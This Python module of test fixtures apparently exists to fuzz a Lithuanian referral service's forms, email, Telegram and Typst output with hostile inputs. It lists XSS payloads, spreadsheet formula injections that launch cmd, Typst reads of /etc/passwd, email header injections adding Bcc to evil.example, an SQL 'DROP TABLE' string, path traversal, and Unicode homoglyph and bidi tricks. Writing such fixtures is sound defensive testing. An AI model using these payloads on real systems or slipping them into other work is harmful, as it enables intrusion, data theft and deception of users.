"""What somebody writes who wants to do harm, by what it is meant to break out of."""

from collections.abc import Mapping

ALL = "AISKIAI_ABUSE_ALL"
"""Set in the environment where everything is tried; else of the longest lists some."""

MARK = "žymė7319"
"""Stands in the words, to find them again."""

MARKUP: Mapping[str, str] = {
    "script": f"{MARK}<script>alert(1)</script>",
    "picture that fails": f'{MARK}<img src=x onerror="alert(1)">',
    "out of an attribute": f'{MARK}" autofocus onfocus="alert(1)',
    "out of a quoted attribute": f"{MARK}' onmouseover='alert(1)",
    "out of a text area": f"{MARK}</textarea><script>alert(1)</script>",
    "out of a title": f"{MARK}</title></head><body onload=alert(1)>",
    "drawing": f"{MARK}<svg/onload=alert(1)>",
    "link that runs": f'{MARK}<a href="javascript:alert(1)">čia</a>',
    "frame": f"{MARK}<iframe srcdoc='<script>alert(1)</script>'>",
    "form to elsewhere": f'{MARK}<form action="https://evil.example"><button>Siųsti</button></form>',
    "template": f"{MARK}{{{{ 7 * 7 }}}}{{% raw %}}${{7*7}}",
    "style": f"{MARK}<style>*{{display:none}}</style>",
    "comment": f"{MARK}<!-- --!><script>alert(1)</script>",
    "escaped once": f"{MARK}&lt;script&gt;alert(1)&lt;/script&gt;",
    "meta": f'{MARK}<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "phone link": f'{MARK} 861234567"><script>alert(1)</script> 0 612 34567',
}

FORMULAS = (
    '=HYPERLINK("https://evil.example";"čia")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "＝1+1",
    '";=1+1;"',
)

TYPST = (
    '#panic("x")',
    '#import "@preview/evil:1.0.0": *',
    '#read("/etc/passwd")',
    '#image("/etc/passwd")',
    '#include "/etc/passwd"',
    '] #eval("1+1") [',
    "$x^2$ *bold* _it_ `raw` <label> @ref // gone",
    "\\u{41} #sys.inputs",
    "= Heading\n- item\n+ item",
)

TELEGRAM = (
    '<a href="https://evil.example">Savivaldybė</a>',
    "<b>storai</b><tg-spoiler>x</tg-spoiler>",
    "[Savivaldybė](https://evil.example)",
    "*bold* _it_ `code` ||x||",
    '<a href="tg://user?id=1">x</a>',
    "</b></i></code>",
    "&lt;b&gt; &amp; &quot;",
    "\\*\\_ \\[",
)

HEADERS = (
    "ona@pastas.lt\r\nBcc: visi@evil.example",
    "ona@pastas.lt\nBcc: visi@evil.example",
    "ona@pastas.lt%0d%0aBcc:visi@evil.example",
    "ona@pastas.lt\r\n\r\n<h1>Kitas laiškas</h1>",
    "ona@pastas.lt, visi@evil.example",
    "ona@pastas.lt;visi@evil.example",
    '"ona@pastas.lt" <visi@evil.example>',
    "ona@pastas.lt\u2028Bcc: visi@evil.example",
    "ona@pastas.lt\x00@evil.example",
    "ona@pastas.lt\x85Bcc: visi@evil.example",
    "=?utf-8?q?ona=0D=0ABcc:_visi?=@evil.example",
)

UNSEEN: Mapping[str, str] = {
    "zero-width space": "On\u200ba Onaitė",
    "zero-width joiner": "Ona\u200d Onaitė",
    "soft hyphen": "O\u00adna Onaitė",
    "byte order mark": "\ufeffOna Onaitė",
    "right to left override": "\u202eOna Onaitė\u202c",
    "isolates": "\u2067Ona\u2069 Onaitė",
    "right to left mark": "Ona\u200f Onaitė",
    "word joiner": "Ona\u2060 Onaitė",
    "variation selector": "Ona\ufe0f Onaitė",
    "tag letters": "Ona\U000e0041\U000e0042 Onaitė",
    "hard space": "Ona\u00a0Onaitė",
    "wide letters": "Ｏｎａ Onaitė",
    "Cyrillic letters among Latin ones": "Оnа Onaitė",
    "Greek letters among Latin ones": "Οnα Οnaitė",
    "loose accents": "Ona Onaite\u0307",
}
"""The same name, Ona Onaitė, written so that it looks or sorts otherwise than it seems."""

ODD: Mapping[str, str] = {
    "nothing": "",
    "null": "\x00",
    "null inside": "a\x00b",
    "control signs": "\x01\x1b[31m\x7f",
    "half a pair": "\ud83d",
    "other digits": "١٢٣",
    "power": "²",
    "negative": "-1",
    "huge number": "9" * 400,
    "beyond the database": str(2**63),
    "not a number": "nan",
    "no day": "2026-02-31",
    "year zero": "0000-01-01",
    "far day": "9999-12-31",
    "path": "../../etc/passwd",
    "quote": "'; DROP TABLE referrals; --",
    "markup": MARKUP["out of an attribute"],
    "long": "ž" * 60_000,
    "many lines": "\n" * 30_000,
    "right to left": "\u202eab\u2066",
}
"""Values that no field of a form asks for."""
